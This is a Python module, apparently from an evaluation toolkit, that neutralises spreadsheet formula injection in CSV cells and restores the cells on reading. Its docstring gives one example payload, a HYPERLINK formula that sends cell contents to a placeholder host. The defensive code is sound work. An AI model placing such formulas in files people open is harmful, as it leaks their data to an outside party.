"""Cells written to CSV files that people open in a spreadsheet: formulas neutralised.

A spreadsheet runs a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a
carriage return) as a formula: ``=HYPERLINK("http://host/?x="&A1,"click")`` in a prompt sends
the sheet's cells to whoever wrote the prompt. :func:`neutralize_cell` puts a ``'`` in front of
such a value, which spreadsheets show as text and hide; :func:`restore_cell` takes it off when
evalkit reads the file back, so a value survives the round trip unchanged. A value that
already starts with ``'`` before such a character gets one more, so restoring is unambiguous.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path

from evalkit.errors import InputError

#: A value a spreadsheet would read as a formula, after any quotes added before.
_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def neutralize_cell(value: object) -> object:
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula.

    Args:
        value: A cell value; only strings are changed.

    Returns:
        The value to write.

    Examples:
        >>> neutralize_cell("=1+1"), neutralize_cell("fine"), neutralize_cell(-1)
        ("'=1+1", 'fine', -1)
    """
    if isinstance(value, str) and _FORMULA.match(value):
        return "'" + value
    return value


def restore_cell(value: str) -> str:
    """The value :func:`neutralize_cell` was given, from what it wrote.

    Args:
        value: A cell read from the file.

    Returns:
        The value without the ``'`` added on writing.

    Examples:
        >>> restore_cell("'=1+1"), restore_cell("''=x"), restore_cell("'quoted")
        ('=1+1', "'=x", "'quoted")
    """
    if value.startswith("'") and _FORMULA.match(value[1:]):
        return value[1:]
    return value


def write_sheet(
    target: Path, rows: Iterable[Mapping[str, object]], columns: Sequence[str], *, what: str
) -> Path:
    """Write a CSV that people open in a spreadsheet: the one CSV writer of evalkit.

    Every cell goes through :func:`neutralize_cell`; columns a row lacks stay empty and keys
    outside ``columns`` are left out. Read the file back with
    :func:`evalkit.results.read_labels_csv`, which restores the cells.

    Args:
        target: The file to write (its directory is created).
        rows: The rows.
        columns: The header, in order.
        what: What the file is, for the error message ("the labelling sheet").

    Returns:
        ``target``.

    Raises:
        InputError: The file cannot be written (named, with the reason).
    """
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        with target.open("w", newline="", encoding="utf-8") as fh:
            writer = csv.DictWriter(fh, fieldnames=list(columns), extrasaction="ignore")
            writer.writeheader()
            writer.writerows({k: neutralize_cell(v) for k, v in row.items()} for row in rows)
    except OSError as exc:
        raise InputError(f"-o {target}: cannot write {what} ({exc.strerror})") from None
    return target
